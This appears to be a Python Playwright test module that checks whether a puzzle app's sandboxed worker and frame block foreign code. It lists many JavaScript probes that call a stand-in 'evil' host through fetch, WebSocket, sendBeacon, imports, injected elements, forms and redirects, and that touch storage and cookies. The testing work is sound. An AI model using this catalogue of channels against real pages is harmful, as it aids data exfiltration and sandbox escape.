"""What foreign code tries, and where it tries it: in the sandbox, and in pages without one."""

from __future__ import annotations

from playwright.sync_api import Frame, Page, Worker, expect

from tests.web.drive import paste, press, status, wait_for_python
from tests.web.foreign.coded import Stranger

FROM_WORKER = {
    "fetch": "await fetch(evil + '/a'); return 'through'",
    "fetch without an answer": "await fetch(evil + '/a', { mode: 'no-cors' }); return 'through'",
    "fetch that outlives": "await fetch(evil + '/a', { keepalive: true }); return 'through'",
    "XMLHttpRequest": """
        const asked = new XMLHttpRequest();
        asked.open("GET", evil + "/a", false);
        asked.send();
        return asked.status === 200 ? "through" : "refused";
    """,
    "WebSocket": """
        const socket = new WebSocket(evil.replace("http", "ws") + "/a");
        await new Promise((done) => (socket.onerror = socket.onopen = done));
        return "asked";
    """,
    "EventSource": """
        const events = new EventSource(evil + "/a");
        await new Promise((done) => (events.onerror = events.onopen = done));
        events.close();
        return "asked";
    """,
    "importScripts": "importScripts(evil + '/a'); return self.through ? 'through' : 'refused'",
    "import": "await import(evil + '/a'); return 'through'",
    "a worker within": """
        const text = `fetch("${evil}/a").then(() => postMessage("through"), () => postMessage(""))`;
        const inner = new Worker(URL.createObjectURL(new Blob([text])));
        return new Promise((done) => {
            inner.onmessage = ({ data }) => done(data);
            inner.onerror = () => done("refused");
        });
    """,
    "indexedDB": """
        const asked = indexedDB.open("gridwright");
        return new Promise((done) => {
            asked.onsuccess = () => done("through");
            asked.onerror = () => done("refused");
        });
    """,
    "caches": "await caches.open('gridwright-files'); return 'through'",
    "files": "await navigator.storage.getDirectory(); return 'through'",
    "locks": "return navigator.locks.request('a', () => 'through')",
}
"""What code in a worker tries: it returns “through”, or the stranger hears from it."""

FROM_FRAME = {
    "the page's document": "return parent.document.title === undefined ? '' : 'through'",
    "storage": "return localStorage.length >= 0 ? 'through' : ''",
    "cookies": "document.cookie = 'a=b'; return document.cookie ? 'through' : ''",
    "a popup": "return open(evil + '/a') ? 'through' : 'refused'",
    "a beacon": "navigator.sendBeacon(evil + '/a'); return 'asked'",
    "a font": """
        const font = new FontFace("a", `url(${evil}/a)`);
        return font.load().then(() => "through", () => "refused");
    """,
    "an image": """
        const image = new Image();
        image.src = evil + "/a";
        return new Promise((done) => (image.onerror = image.onload = () => done("asked")));
    """,
}
"""What the frame's document could try, in which no foreign code runs."""

ELEMENTS = {
    "a script": ("script", "src"),
    "a style": ("link", "href", "stylesheet"),
    "a prefetch": ("link", "href", "prefetch"),
    "a preload": ("link", "href", "modulepreload"),
    "a film": ("video", "src"),
    "an object": ("object", "data"),
    "a frame within": ("iframe", "src"),
}
FROM_FRAME |= {
    name: f"""
        const one = document.createElement("{tag}");
        one.rel = "{"".join(rel)}";
        one.{field} = evil + "/a";
        document.body.append(one);
        return "asked";
    """
    for name, (tag, field, *rel) in ELEMENTS.items()
}
FROM_FRAME["a picture in a style"] = """
    document.body.style.backgroundImage = `url(${evil}/a)`;
    return "asked";
"""

LEAVING = {
    "its own address": "location = evil + '/a'; return 'asked'",
    "the page's address": "top.location = evil + '/a'; return 'asked'",
    "a refresh": """
        const told = document.createElement("meta");
        told.httpEquiv = "refresh";
        told.content = `0; url=${evil}/a`;
        document.head.append(told);
        return "asked";
    """,
    "a form": """
        const form = document.createElement("form");
        form.action = evil + "/a";
        document.body.append(form);
        form.submit();
        return "asked";
    """,
    "a form for the page": """
        const form = document.createElement("form");
        Object.assign(form, { action: evil + "/a", target: "_top" });
        document.body.append(form);
        form.submit();
        return "asked";
    """,
    "a link": """
        const link = document.createElement("a");
        link.href = evil + "/a";
        document.body.append(link);
        link.click();
        return "asked";
    """,
}
"""Ways for the frame to go elsewhere, or to take the page there. Some end the frame."""

TRY = """async (evil) => {
    try { return String(await (async () => { ATTACK })()); } catch (error) { return String(error); }
}"""
EMPTY_WORKER = """() => {
    globalThis.kept = new Worker(URL.createObjectURL(new Blob([""])));
}"""


def ready(page: Page) -> None:
    """Our board, with Python."""
    page.goto("./#solve")
    wait_for_python(page)


def inside(page: Page) -> Worker:
    """The worker that was started from a text: on our page, the sandbox's."""
    (found,) = (one for one in page.workers if one.url.startswith("blob:"))
    return found


def around(page: Page) -> Frame:
    """The page's only frame: on our page, the sandbox's."""
    (frame,) = (one for one in page.frames if one != page.main_frame)
    return frame


def free_worker(page: Page, evil: Stranger) -> Worker:
    """A worker of a page without policy."""
    page.goto(f"{evil.url}/page")
    with page.expect_worker() as started:
        page.evaluate(EMPTY_WORKER)
    return started.value


def free_frame(page: Page, evil: Stranger) -> Frame:
    """A frame of the same site in a page without policy."""
    page.goto(f"{evil.url}/page")
    page.evaluate("document.documentElement.append(document.createElement('iframe'))")
    return around(page)


def tried(where: Worker | Frame, attack: str, evil: Stranger) -> str:
    """What this attack returns there."""
    told: str = where.evaluate(TRY.replace("ATTACK", attack), evil.url)
    return told


def answers(page: Page) -> None:
    """The sandbox still solves its puzzle; whatever it sent before has been heard by now."""
    press(page, "Solve")
    expect(status(page)).to_contain_text("The solution is unique.")


def lives(page: Page) -> None:
    """The page solves a puzzle of its own; whatever was sent before has been heard by now."""
    paste(page, "1.../..3./..4./.2..")
    expect(status(page)).to_contain_text("from a line of numbers")
    expect(page.locator("iframe")).to_have_count(0)
    press(page, "Solve")
    expect(status(page)).to_contain_text("The solution is unique.")
